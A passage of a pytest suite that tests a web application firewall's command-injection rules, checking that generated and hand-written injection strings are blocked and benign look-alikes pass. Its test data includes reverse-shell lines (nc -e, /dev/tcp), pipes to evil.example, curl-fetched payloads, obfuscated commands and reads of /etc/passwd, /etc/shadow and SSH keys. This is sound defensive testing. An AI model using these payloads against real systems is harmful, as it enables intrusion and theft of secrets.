"""WAF, command injection (edge.waf.detect.rce) through the real edge
(shipped config, bans off). Attacks are generated from the shapes an
injection takes, not from payload lists: what ends the application's own
argument (nothing, a value such as an address, a quote or a parenthesis),
a separator (; | && || & a line end), a command of the shell's or Windows'
vocabulary, the spacing (space, tab, a form-encoded +); also command
substitution with backticks and $(...), a command line ended by a
separator, and obfuscated or wrapped command words. Each must be blocked
by an rce rule (the audit line names it), in a JSON note and in a query.

Benign look-alikes a public API receives in a free-text note must pass:
shell examples written for a human (a command line with no breakout
before it), prose that starts with a command word, markdown code spans,
fences and tables, Windows paths with %VARIABLES%."""
import itertools
import urllib.parse
import uuid

import pytest
import requests

from wafkit import WafEdge, random_tokens, rule_fired, waf_config

CONF = waf_config()
# Attacks go to an edge where only the rce rules run: another detector that
# reads the same value first (a quote breakout is also SQL's) must not
# make a miss pass unseen.
OTHER_CLASSES = ["sqli", "xss", "php", "java", "node", "ssti", "lfi", "rfi", "ssrf",
                 "file", "protocol", "session", "xxe"]
RCE_ONLY = waf_config(disabled_rules=OTHER_CLASSES)

# What stands before the separator: nothing, an argument value, a quote
# or parenthesis that closes the application's own.
BEFORE = ["", "127.0.0.1", "x'", 'a")', "report.txt"]
SEPARATORS = [";", "|", "&&", "||", "&", "\n"]
# Ordinary commands (no path or syntax another rule would see), time-based
# ones among them; {s} is the spacing.
COMMANDS = [
    "sleep{s}7",
    "id",
    "uname{s}-a",
    "echo{s}424242",
    "ping{s}-c{s}3{s}192.0.2.1",
    "whoami",
    "timeout{s}9",
    "ifconfig",
    "dir{s}c:\\",
]
SPACES = [" ", "\t", "+"]


def chained():
    out = set()
    for before, sep, cmd, sp in itertools.product(BEFORE, SEPARATORS, COMMANDS, SPACES):
        if sp != " " and "{s}" not in cmd:
            continue
        # after the separator: nothing, the spacing itself, or a space
        for after in ("", " " if sp != "+" else "+"):
            out.add(before + sep + after + cmd.format(s=sp))
            if before and sep != "\n":
                out.add(before + " " + sep + after + cmd.format(s=sp))
    return sorted(out)


CHAINED = chained()

OTHER_ATTACKS = [
    # command substitution: backticks that are not a markdown code span
    "`id`",
    "`true`",
    '"`uname`"',
    "x`sleep 5`",
    "`perl -e 'print 1'`%n",
    "$(sleep 5)",
    "1$(id)",
    # a command line ended by a separator or a line end (the rest of the
    # application's command goes elsewhere)
    "id;",
    "uname -a|",
    "ls -la /tmp ;",
    "cd /;cd var;ls\n",
    "perf --version\n",
    # obfuscated or wrapped command words at the start
    "w'h'o'am'i",
    "\\ls -la",
    "^uname -a",
    "who$u''ami",
    "time ifconfig",
    "nohup whoami",
    "strace uname -a",
    # Windows: switches glued to the name, .exe, cmd escapes
    "& ping.exe -n 31 192.0.2.1",
    "| whoami/all",
    "&& type c:\\boot.ini",
    "+|+dir+c:/+|",
    # a quote the value leaves open, then a command
    "' ping -n 20 192.0.2.1",
    "\" sleep 20",
    # a redirection before a command name
    "<whoami\n",
    # a written line end (\n as two characters)
    "\\nping -c 3 192.0.2.1",
    # the shell itself through a variable
    ";$0 -c id",
]

BENIGN = [
    # shell examples written for a human: a command line with no breakout
    "ls -la | grep config",
    "sudo apt-get install jq",
    "docker --help",
    "git log --oneline | head -5",
    "ps aux | grep gunicorn",
    "cd build && make -j4",
    "mkdir -p out && cd out && cmake ..",
    "du -sh * | sort -h",
    "history | tail",
    "find . -name '*.md' | xargs wc -l",
    "kubectl get pods -n staging",
    "ping -c 4 example.com",
    "tail -n 50 app.log",
    "chmod +x scripts/deploy.sh",
    "curl -s https://api.example.com/v1/health | jq .",
    "cat data.json | python -m json.tool",
    "echo $HOME",
    # prose that starts with a command word, or has one after a ; or &
    "Python3 caching library with TTL support",
    "Sort the photos by date; then share the album",
    "Find the receipt & file it under taxes",
    "Echo chamber effects are real; more on that later",
    "Touch base with Ana tomorrow | agenda in the doc",
    "salt & pepper | more to taste",
    "Kill Bill vol 3 when?",
    "Make sure to test the login; it broke twice",
    "Date night at 8; bring flowers",
    "Who said that? I'd like to know; ask Sam",
    # markdown: code spans, fences, tables
    "Run `make test` first, then `git push`.",
    "Use `ls -la | grep env` to find the file.",
    "To update, type `git pull --rebase` in the repo folder.",
    "```bash\npip install -r requirements.txt\npytest -q\n```",
    "| Command | Meaning |\n|---|---|\n| date | prints the date |\n| sort | sorts lines |",
    "- [ ] write docs\n- [x] `npm test` passes",
    # multi-line notes with a command on its own line
    "Steps:\nnpm install\nnpm run build",
    # Windows paths with variables, drive letters
    "%APPDATA%\\MyApp\\settings.json",
    "Saved to %USERPROFILE%\\Documents\\notes.txt",
    "D:\\Projects\\site\\index.html",
    # code
    "for (let i = 0; i < n; i++) { total += i; }",
    "printf(\"%d\\n\", count);",
    "x = a | b & c; y = x ^ 3",
    "nohup python app.py &",
]


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-rce"), CONF).start()
    yield e
    e.stop()


@pytest.fixture(scope="module")
def rce_edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-rce-only"), RCE_ONLY).start()
    yield e
    e.stop()


@pytest.fixture(autouse=True)
def no_lua_errors(edge, rce_edge):
    yield
    for e in (edge, rce_edge):
        bad = e.error_lines("error") + e.error_lines("crit")
        assert not bad, "\n".join(bad)


def send_note(edge, value):
    rid = "rce-" + uuid.uuid4().hex
    r = requests.post(edge.url + "/api/notes", json={"note": value},
                      headers={"X-Request-ID": rid})
    return r.status_code, rid


def send_query(edge, value):
    rid = "rce-" + uuid.uuid4().hex
    r = requests.get(edge.url + "/api/search?q=" + urllib.parse.quote(value, safe=""),
                     headers={"X-Request-ID": rid})
    return r.status_code, rid


def rce_rules(edge, rid):
    return [m["rule"] for m in edge.audit_for(rid)["matches"]
            if m["rule"].startswith("rce-")]


def assert_blocked_by_rce(edge, value):
    for send in (send_note, send_query):
        status, rid = send(edge, value)
        assert status == 403, (send.__name__, value, status)
        assert rce_rules(edge, rid), (send.__name__, value, edge.audit_for(rid))


def test_generated_chains_are_many():
    # the product is what the tests below send: keep it a real sweep
    assert len(CHAINED) > 500
    assert any(v.startswith(";") for v in CHAINED)
    assert any(v.startswith("127.0.0.1 &&") for v in CHAINED)
    assert any("+" in v and v.endswith("c:\\") for v in CHAINED)


@pytest.mark.parametrize("chunk", range(8))
def test_chained_commands_blocked(rce_edge, chunk):
    sent = [(value,) + send_note(rce_edge, value) for value in CHAINED[chunk::8]]
    audits = {a.get("request_id"): a for a in rce_edge.audits()}
    missed = [value for value, status, rid in sent
              if status != 403 or not any(m["rule"].startswith("rce-")
                                          for m in audits[rid]["matches"])]
    assert not missed, f"{len(missed)} of {len(sent)} passed: {missed[:20]}"


@pytest.mark.parametrize("value", OTHER_ATTACKS, ids=range(len(OTHER_ATTACKS)))
def test_other_injections_blocked(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


def test_chains_blocked_in_query_and_header(rce_edge):
    edge = rce_edge
    sample = CHAINED[::37]
    missed = []
    for value in sample:
        status, _ = send_query(edge, value)
        if status != 403:
            missed.append(("query", value))
        header = value.replace("\n", " ").replace("\t", " ")
        if header.startswith((";", "|", "&")):
            r = requests.get(edge.url + "/api/search", headers={"User-Agent": header})
            if r.status_code != 403:
                missed.append(("header", value))
    assert not missed, missed


def test_injection_in_an_argument_name(rce_edge):
    edge = rce_edge
    # names have no command at their start, only after a separator
    r = requests.get(edge.url + "/probe?" + urllib.parse.quote("x;sleep 9", safe="")
                     + "=1")
    assert r.status_code == 403
    r = requests.get(edge.url + "/probe?" + urllib.parse.quote("sleep_time", safe="")
                     + "=1")
    assert r.status_code == 404


@pytest.mark.parametrize("value", BENIGN, ids=range(len(BENIGN)))
def test_benign_note_passes(edge, value):
    status, rid = send_note(edge, value)
    assert status != 403, (value, edge.audit_for(rid))
    if "\n" not in value:
        status, rid = send_query(edge, value)
        assert status != 403, (value, edge.audit_for(rid))


# A client's transcript: the prompt is its name and ">" ("mysql> ..."
# after a "; " of the statement before); the same client run after a
# separator, or its output sent to a file, is still a command.
TRANSCRIPTS = [
    "See the code: mysql> grant select on db.* to 'app'@'%'; mysql> show tables;",
    "then: sqlite> .tables; sqlite> .schema users",
    "Run it; psql> \\dt lists the tables",
]
CLIENT_COMMANDS = ["x; mysql -e 'select 1'", "1; mysql>/tmp/out", ";psql -c 'drop table t'"]


@pytest.mark.parametrize("value", TRANSCRIPTS, ids=range(len(TRANSCRIPTS)))
def test_client_prompts_in_a_transcript_pass(edge, value):
    status, rid = send_note(edge, value)
    assert status != 403, (value, edge.audit_for(rid))


@pytest.mark.parametrize("value", CLIENT_COMMANDS, ids=range(len(CLIENT_COMMANDS)))
def test_clients_run_after_a_separator_blocked(edge, value):
    status, _ = send_note(edge, value)
    assert status == 403, value


USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; Touch; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Touch) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B Build/TP1A.220624.014)",
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "curl/8.5.0",
    "Wget/1.21.4",
    # parameters written without spaces after their ";"
    "Mozilla/5.0 (Linux;U;Android 4.0.3;zh-cn;HTC Sensation Build/IML74K) AppleWebKit/534.30",
    "Mozilla/5.0 (X11;Linux x86_64;rv:109.0) Gecko/20100101 Firefox/115.0",
]


@pytest.mark.parametrize("ua", USER_AGENTS, ids=range(len(USER_AGENTS)))
def test_user_agents_pass(edge, ua):
    """A header's ";" separates parameters, and a word in them (Touch) is
    not a command after a breakout."""
    r = requests.get(edge.url + "/api/search?q=x", headers={"User-Agent": ua})
    assert r.status_code != 403, ua


def test_command_line_is_a_warning_at_pl1_and_blocked_at_pl2(tmp_path):
    """A command line with no breakout scores a warning (3) at paranoia 1,
    so a note with a shell example passes; at paranoia 2 it blocks."""
    e = WafEdge(tmp_path / "pl2", waf_config(paranoia=2)).start()
    try:
        status, rid = send_note(e, "ls -la | grep config")
        assert status == 403
        assert "rce-command-start" in rce_rules(e, rid)
        status, _ = send_note(e, "Sort the photos by date and share the album")
        assert status != 403
    finally:
        e.stop()


# A written line end ("\n", "\r": backslash, then n or r) is a line end
# to the detectors, but a shell reads a backslash before a letter as that
# letter: inside a command word it spells the command ("u\name" is uname,
# "\rm" is rm). Found by tests/corpus_evasion.py (a backslash inside a
# shell word: 0.903, all misses "\n" words); these probes were written and
# seen to pass before the change.
ESCAPED_LINE_END_WORDS = [
    "u\\name -a", "\\rm -rf /tmp/x", ";\\rm -rf /", "|\\nslookup evil.example",
    ";\\netstat -an", "\\nmap -sS 10.0.0.1", "`\\nproc`", "x;\\nmap -sS host",
]
# written line ends between words of text, and Windows paths whose
# directories start with n or r, stay text
ESCAPED_LINE_END_TEXT = [
    "line one\\nline two", "say hi\\nreally", "C:\\new\\report.txt",
    "\\\\fileserver\\nas\\reports", "C:\\nodejs\\node.exe",
    "installed to C:\\nmap\\nmap.exe", "D:\\netstat-tools\\readme.txt",
    "Hello\\nworld", "first line\\nsecond line\\nthird",
]


@pytest.mark.parametrize("value", ESCAPED_LINE_END_WORDS)
def test_a_written_line_end_inside_a_command_word_is_its_letter(rce_edge,
                                                               value):
    assert_blocked_by_rce(rce_edge, value)


def assert_passes_in_note_and_query(edge, value):
    for send in (send_note, send_query):
        status, rid = send(edge, value)
        assert status != 403, (send.__name__, value, edge.audit_for(rid))


@pytest.mark.parametrize("value", ESCAPED_LINE_END_TEXT)
def test_written_line_ends_in_text_and_paths_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


# A variable given a command line, then expanded where a command stands:
# the shell runs what it holds ("a=whoami;$a"). Found by corpus_evasion (a
# line break for ";": NAME=$'cmd ...' then $NAME; the corpus's variable
# was named CMD, which read as cmd.exe); probes written before the change.
VARIABLE_COMMANDS = [
    "a=whoami;$a", "X=$'uname -a';$X", "X=$'uname -a'\n$X",
    "c='cat /etc/passwd'\n$c", ";p=ping;$p -c 5 127.0.0.1",
    "|s=/bin/sh;${s} -i", "v=\"nc -e /bin/sh evil.example 4444\" && $v",
    "x'; run=id; $run #",
]
# assignments and dollar signs of text, spreadsheets and prices
VARIABLE_TEXT = [
    "price=$5 and tax=$1", "x=1\ny=$x+2", "Set EDITOR=vim, then run $EDITOR to edit",
    "total=$total + $fee", "mode=list means a list; $mode is shown above",
    "name=Ann; echo hello $name",
    "a=b;$a is a variable in shell docs",
]


@pytest.mark.parametrize("value", VARIABLE_COMMANDS)
def test_a_variable_holding_a_command_run_where_a_command_stands(rce_edge,
                                                                value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", VARIABLE_TEXT)
def test_assignments_and_dollars_in_text_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


# The shell parses a whole line before it runs any of it: a line it
# rejects runs nothing (found on a real browser's beacon, a bot sensor's
# random token holding "...l;w>szx#)7X7..."). Each of these is a syntax
# error to sh and bash after the command the detector would see: a ")"
# that closes nothing, a "(" glued to a word or after a command's name,
# ";;", an operator where a command must stand, a redirection with no
# target.
SHELL_REJECTS = [
    "dcb%l;w>szx#)7x7", "a;id)", "a;;id", "x;w>;", "x; id (", "a (b;id)",
    "q=1|;ls -la", "k9;ps^(x", "t;id &;", "z|id| |x",
]
# ... and what a shell runs: the same commands with what makes them parse
# (a comment, a quote the application closes, a subshell, a function's
# "()" and cmd.exe, which parses none of this, after "&")
SHELL_RUNS = [
    "x;id #)", "x;id ')'", "(a;id)", "$(a;id)", ";(id)", ";time (id)",
    "x|id|", "x&ipconfig)", "x; cat /etc/passwd >/tmp/x 2>&1",
    "x; uname -a 2>&1 | nc evil.example 80",
]


@pytest.mark.parametrize("value", SHELL_REJECTS)
def test_a_command_on_a_line_the_shell_rejects_is_no_injection(rce_edge, value):
    status, rid = send_note(rce_edge, value)
    if status == 403:
        assert "rce-command" not in rce_rules(rce_edge, rid), value


@pytest.mark.parametrize("value", SHELL_RUNS)
def test_a_command_on_a_line_the_shell_parses_is_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


def test_random_tokens_hold_no_command_injection(rce_edge):
    # a bot sensor's or a cipher's token: every printable byte but the
    # JSON quote and backslash, seeded. Before the shell's grammar was read
    # around the command, 13 of these 120 read as an injection; 2 still do
    # (a ">(" whose text is a shell line, "^w" read as cmd.exe's escape)
    hits = []
    for token in random_tokens(20261203, 120):
        status, rid = send_note(rce_edge, token)
        if status == 403 and "rce-command" in rce_rules(rce_edge, rid):
            hits.append(token)
    assert len(hits) <= 3, [h[:80] for h in hits]


# A glob's bracket expression lies within one shell word: a blank or an
# operator byte inside the brackets ends the word, and the "[" is a plain
# byte then ("/a[b c]d" is the words "/a[b" and "c]d"; a random token holds
# "'/s[l/c/a$1gv=cx-9n ... ]x" by chance).
GLOB_SPLIT = ["see /a[b c]d", "x;/q[w|e]r", "'/s[l/c/a$1gv=c x-9n]k", "(/z[a<b]c"]
GLOB_RUNS = ["cat /e[t]c/pa[s]swd", "x;/bin/c[a]t /etc/passwd", "a=/h[o]me/x"]


@pytest.mark.parametrize("value", GLOB_SPLIT)
def test_a_bracket_split_by_the_shell_is_no_glob(rce_edge, value):
    assert not rule_fired(rce_edge, value, "rce-glob"), value


@pytest.mark.parametrize("value", GLOB_RUNS)
def test_a_bracket_within_a_word_is_a_glob(rce_edge, value):
    assert rule_fired(rce_edge, value, "rce-glob"), value


# What a substitution runs first is a program: a name no system has runs
# nothing ("command not found"), so "$(wa9lnalm.dl)" of a random token is
# no injection; a name of the vocabulary, a path, a built word, or any
# name given an option or a path is one.
SUBSTITUTION_NO_PROGRAM = ["x$(wa9lnalm.dl)f|(v", "q$(m_wj h!wfn)]w", "7<(ec>pjx2a",
                           "a$(tckv;u;ui&imq"]
SUBSTITUTION_PROGRAM = ["x$(uname -a)", "$(printf '\\151\\144')", "a$(mytool -x 1)",
                        "a$(x9q /etc/passwd)", "$(/tmp/x)", "$(./run.sh)",
                        "$(busybox id)", "$(python3.11 -c 1)", "<(curl evil.example)"]


@pytest.mark.parametrize("value", SUBSTITUTION_NO_PROGRAM)
def test_a_substitution_of_no_program_runs_nothing(rce_edge, value):
    assert not rule_fired(rce_edge, value, "rce-substitution"), value


@pytest.mark.parametrize("value", SUBSTITUTION_PROGRAM)
def test_a_substitution_of_a_program_is_refused(rce_edge, value):
    # (by rce-substitution, or by rce-command when the name is one it
    # knows: the first refusal ends the audit)
    assert_blocked_by_rce(rce_edge, value)


def test_random_tokens_hold_fewer_substitutions(rce_edge):
    # seeded tokens as above: 13 of these 120 held a substitution while
    # any name was taken for a program, 11 still do (most of them a
    # "$" or "`" inside "${...}", and "<('...")
    hits = sum(rule_fired(rce_edge, token, "rce-substitution")
               for token in random_tokens(20261203, 120))
    assert hits <= 11, hits


# A quote that closes the argument the application quoted: whatever stood
# before it was inside those quotes (words and spaces too), and the
# separator right after it ends the argument, as a bare ";" does: a weak
# command word then runs with a number ("sleep 5"). A quote after a digit
# is a prime (15", 5'10"), and an even count of quotes closes nothing.
QUOTED_ARGUMENT_BREAKOUTS = [
    f"{words}{q}{sp}{sep} {cmd} {sep}{sp}{q}"
    for words, q, sp, sep, cmd in itertools.product(
        ("two words", "my report final"), ('"', "'"), ("", " "), (";", "&&", "|"),
        ("sleep 5", "ping -c 3 127.0.0.1"))
]
QUOTED_TEXT = ['Size 15"; sleep 5 hours', 'He said "stop"; sleep now',
               "The 12\" pizza; sleep well", "She said 'go' & sleep 8 hours",
               'a "quoted" & time 5']


@pytest.mark.parametrize("value", QUOTED_ARGUMENT_BREAKOUTS)
def test_a_quote_closing_the_applications_argument_is_a_breakout(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", QUOTED_TEXT)
def test_quotes_in_text_before_a_separator_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


# A backtick span glued to ".name" that code goes on from (the value's
# end, an operator, a call) is a method call on the command's output
# (Ruby's `id`.to_s): a substitution; ".name" then a word is a sentence
# missing its space.
SPAN_METHODS = [f"{pre}`{cmd}`.{method}" for pre, cmd, method in itertools.product(
    ("", "x = ", "puts "), ("id", "uname -a", "cat /etc/passwd"),
    ("to_s", "strip", "chomp + 'x'", 'split(" ")'))]
SPAN_SENTENCES = ["Run `make`.Then rebuild", "See `README`.md for details",
                  "Use `ls`. It lists files", "Edit `config`.yaml and restart"]


@pytest.mark.parametrize("value", SPAN_METHODS)
def test_a_backtick_span_with_a_method_call_is_a_substitution(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", SPAN_SENTENCES)
def test_a_backtick_span_before_a_full_stop_is_markdown(edge, value):
    assert_passes_in_note_and_query(edge, value)


# A line that is a call ("    main()" in a traceback) before a line
# break: the shell reads "f()" as a function's head and "f(x" as a syntax
# error, so the next line runs nothing; after an argument ("x')", "127.1")
# the next line still does.
TRACEBACKS = [
    'Traceback (most recent call last):\n  File "/app/main.py", line 12, in <module>\n'
    '    main()\n  File "/app/main.py", line 8, in main\n    x = 1 / 0\n'
    'ZeroDivisionError: division by zero',
    "    run(args)\n  File \"/srv/cli.py\", line 3, in run",
    "    self.load()\nfile /tmp/x.bin is empty",
    "init()\nls shows nothing yet",
]
AFTER_AN_ARGUMENT = ["x')\nwhoami", "127.0.0.1\nuname -a", "a1\nsleep 5;", "x()\nwhoami"]


@pytest.mark.parametrize("value", TRACEBACKS)
def test_the_line_after_a_call_is_no_injection(edge, value):
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", AFTER_AN_ARGUMENT)
def test_the_line_after_an_argument_is_an_injection(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


# A command line as a manual writes it, naming the OS's places: in a note
# or a search it is an example for a reader (one warning, whatever paths
# it names); in an argument named for a command, or in a header, the
# application or no one runs it as written: refused. A secret file a
# command line names is its target anywhere.
MANUAL_LINES = ["sudo nano /etc/hosts", "cat /etc/os-release", "tail -f /var/log/syslog",
                "chmod 644 /etc/nginx/nginx.conf", "grep -i error /var/log/nginx/error.log",
                "du -sh /var/lib/docker", "mount /dev/sdb1 /mnt/usb",
                "cat /proc/cpuinfo | grep \"model name\"", "ls /etc/cron.d/",
                "ln -sf /usr/share/zoneinfo/Europe/Paris /etc/localtime"]
COMMAND_ARGUMENTS = ["cmd", "exec", "command", "code", "run_cmd", "shell[0]"]
SECRET_TARGETS = ["ls -l /etc/passwd", "less /etc/shadow", "sudo vim /etc/sudoers"]


@pytest.mark.parametrize("value", MANUAL_LINES)
def test_manual_command_lines_in_text_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("name", COMMAND_ARGUMENTS)
def test_command_lines_in_an_argument_named_for_a_command_blocked(rce_edge, name):
    for value in MANUAL_LINES[:4] + ["ls -la", "python3.10 cmd"]:
        rid = "rce-" + uuid.uuid4().hex
        r = requests.get(rce_edge.url + "/probe", params={name: value},
                         headers={"X-Request-ID": rid})
        assert r.status_code == 403, (name, value, r.status_code)
        assert "rce-command" in rce_rules(rce_edge, rid), (name, value)


@pytest.mark.parametrize("value", MANUAL_LINES[:4] + ["cat /proc/net/tcp"])
def test_command_lines_in_a_header_blocked(rce_edge, value):
    rid = "rce-" + uuid.uuid4().hex
    r = requests.get(rce_edge.url + "/probe", headers={"User-Agent": value, "X-Request-ID": rid})
    assert r.status_code == 403, (value, r.status_code)
    assert "rce-command" in rce_rules(rce_edge, rid), value


@pytest.mark.parametrize("value", SECRET_TARGETS)
def test_a_secret_file_a_command_line_names_is_its_target(edge, value):
    for send in (send_note, send_query):
        status, _ = send(edge, value)
        assert status == 403, (send.__name__, value, status)


# An empty quote pair inside a path's word: the shell removes it, so the
# path is what it spells; text never writes one there.
QUOTED_PATHS = ['cat /e""tc/hosts', "ls /v''ar/log", 'x=/e""tc/pa\'\'sswd', "/usr/b''in/id"]
QUOTE_PAIRS_IN_TEXT = ["it''s fine", 'say ""hi"" now', "x = '' + y", 'csv: "a","",""']


@pytest.mark.parametrize("value", QUOTED_PATHS)
def test_an_empty_quote_pair_inside_a_path_is_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", QUOTE_PAIRS_IN_TEXT)
def test_empty_quote_pairs_in_text_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


# An empty substitution inside a command word expands to nothing: the word
# is the command it spells. reStructuredText quotes words with ``...``.
EMPTY_SUBSTITUTIONS = [";wh$()oami", "|c$()at /etc/passwd", ";who``ami", "&& i$()d",
                       ";w$()h$()o$()am$()i"]
EMPTY_SUBSTITUTIONS_IN_TEXT = ["Use $() for substitution", "the `` mark is empty",
                               "``${prefix}/bin/python3`` and ``make install``"]
# A glob in an absolute path's first directory that the shell expands to
# one of the OS's own; lower down, a usage line's.
GLOB_ROOTS = ["/e*c/passwd", "/e?c/shadow", "/et*/hosts", "x=/e?c/passwd", "/u*r/b?n/id",
              "/h?me/anna/.ssh/id_rsa", "cat /p*c/self/environ"]
GLOBS_LOWER_DOWN = ["Docs for /usr/*/bin are here", "/*/ comment */", "/a?b/c",
                    "/api/v1/items?x=1/2", "rm -rf build/*/cache"]


@pytest.mark.parametrize("value", EMPTY_SUBSTITUTIONS)
def test_an_empty_substitution_inside_a_command_word_is_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", EMPTY_SUBSTITUTIONS_IN_TEXT)
def test_empty_substitutions_in_text_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", GLOB_ROOTS)
def test_a_glob_hiding_an_os_directory_is_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", GLOBS_LOWER_DOWN)
def test_globs_lower_down_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


# A glob inside a file's name, letters on both sides, under the OS's
# directories of secrets hides the name; a usage line's glob stands for a
# whole name or its end, and "?" before a "name=" starts a query.
GLOBS_IN_NAMES = ["cat /etc/pa?swd", "cat /etc/pa**wd", "/etc/sh*dow", ";cat /proc/self/envi?on",
                  "x=/root/.ssh/id_r?a", "type C:/windows/win.i?i"]
GLOBS_FOR_NAMES = ["ls /etc/*.conf", "ls /etc/rc?.d", "cat /proc/*/status",
                   "see /root/feed?tab=new", "grep x /etc/ssl/certs/*.pem",
                   "ls /usr/lib/lib*ssl*", "tail -f /var/log/*.log"]


@pytest.mark.parametrize("value", GLOBS_IN_NAMES)
def test_a_glob_inside_an_os_file_name_is_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", GLOBS_FOR_NAMES)
def test_globs_standing_for_names_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


# A descriptor's duplication (2>&1) and /dev/null end manual lines and
# crontab entries; alone they are no shell injection. An attack that
# uses them still has its separator, its command or its /dev/tcp.
REDIRECTING_LINES = ["make check TESTS=tests/df/df-P.sh >> log 2>&1",
                     "*/5 * * * * /opt/app/run.sh > /dev/null 2>&1",
                     "pip install -r requirements.txt > /dev/null 2>&1",
                     "command -v git >/dev/null 2>&1 || echo missing"]
REDIRECTING_ATTACKS = ["x; uname -a 2>&1 | nc evil.example 80",
                       ";bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                       "|cat /etc/passwd 2>&1", ";id &>/tmp/x", "`id 2>&1`"]


@pytest.mark.parametrize("value", REDIRECTING_LINES)
def test_lines_ending_in_redirections_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


@pytest.mark.parametrize("value", REDIRECTING_ATTACKS)
def test_attacks_with_redirections_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


# A parameter expansion with an operator glued to a word is shell
# evasion (the word is a command spelled in pieces); between spaces it is
# a value a manual shows.
GLUED_EXPANSIONS = [";ca${x:-t} /etc/passwd", "${x#a}id", "|wh${u:-o}ami", "c${z%q}at /etc/hosts"]
EXPANSIONS_IN_TEXT = ["Use ${VAR:-default} to fall back in shell scripts.",
                      "Use ${VAR:=default} to assign", "${VAR:-default}", "Default: ${PORT:-8080}."]


@pytest.mark.parametrize("value", GLUED_EXPANSIONS)
def test_expansions_glued_to_a_word_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", EXPANSIONS_IN_TEXT)
def test_expansions_between_spaces_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


# A PowerShell cmdlet after a separator, with an argument as PowerShell
# takes one; lower-case compounds and a cmdlet named in a sentence are text.
POWERSHELL_CHAINS = ["; Start-Sleep 5", "| Invoke-Expression $x", "& Get-Content C:\\Windows\\win.ini",
                     "; Stop-Process -Name explorer", "x\nStart-Sleep -s 10", "$(Get-Date -Format o)"]
POWERSHELL_LOOKALIKES = ["; read-only", "Files are write-protected; read-only mode",
                         "items; set-up the room", "The add-on costs $5; add-on 2 is free",
                         "Use Start-Sleep 5 in a script"]


@pytest.mark.parametrize("value", POWERSHELL_CHAINS)
def test_powershell_cmdlets_after_a_separator_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", POWERSHELL_LOOKALIKES)
def test_powershell_lookalikes_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


# A ";" glued to the word after it in a header is a token's separator, as
# in an argument: a command after it runs (X-Forwarded-For: "1;sleep 5").
HEADER_CHAINS = ["1;sleep 5", "127.0.0.1;sleep 10", "x;id", "a;cat /etc/hosts"]


@pytest.mark.parametrize("value", HEADER_CHAINS)
@pytest.mark.parametrize("header", ["User-Agent", "X-Forwarded-For", "Referer", "X-Api-Version"])
def test_glued_chains_in_a_header_refused(rce_edge, header, value):
    r = requests.get(rce_edge.url + "/api/search?q=x", headers={header: value})
    assert r.status_code == 403, (header, value)


# A here-string feeds a word to the command before it: one of the
# vocabulary's, or any word right after a separator. Between a chat's
# words, or after nothing, "<<<" is an arrow.
HERE_STRINGS = ["bash<<<$(curl -s http://evil.example/x)", ";sh <<< 'id'", "x;cat<<<$(id)",
                "/bin/bash<<<id", "python3 <<< \"import os;os.system('id')\"",
                ";gcc10.1<<<void main(){}", "x|foo <<< bar"]
ARROWS = [">>> IMPORTANT <<< bring your passport!!!", "<<< scroll up, I already sent it",
          "see above <<<", "read x <<< \"$line\""]


@pytest.mark.parametrize("value", HERE_STRINGS)
def test_here_strings_into_a_command_refused(rce_edge, value):
    assert_blocked_by_rce(rce_edge, value)


@pytest.mark.parametrize("value", ARROWS)
def test_chat_arrows_pass(edge, value):
    assert_passes_in_note_and_query(edge, value)


# cmd.exe's substring of a variable spelling a word: two in a row, or one
# glued to a letter, after each separator; the syntax named in a batch
# tutorial's sentence passes.
SUBSTRINGS = ["%COMSPEC:~-7,1%%COMSPEC:~-6,1%%COMSPEC:~-5,1% /c whoami",
              "%ProgramFiles:~2,1%%ProgramFiles:~2,1%", "w%windir:~4,1%oami",
              "%COMSPEC:~0,1%%COMSPEC:~-7,3% /c ver"]


@pytest.mark.parametrize("sep,sub", list(itertools.product(["| ", "&", "& ", "&& "], SUBSTRINGS)))
def test_cmd_substrings_spelling_a_word_blocked(edge, sep, sub):
    assert_blocked_by_rce(edge, "x" + sep + sub)


def test_cmd_substring_named_in_text_passes(edge):
    assert_passes_in_note_and_query(edge, "In batch, %PATH:~0,10% gives the first ten characters.")


# An XPath's predicates and indexes ("//div[@class='price']", "/tr[3]")
# are brackets too, but no glob: one holding an "@", "=", a quote or only
# a number stands for no letter of a name. A bracket that hides a letter
# still is one.
XPATHS = ["//div[@class='price']/text()", "/html/body/div[2]/table/tr[3]/td[1]",
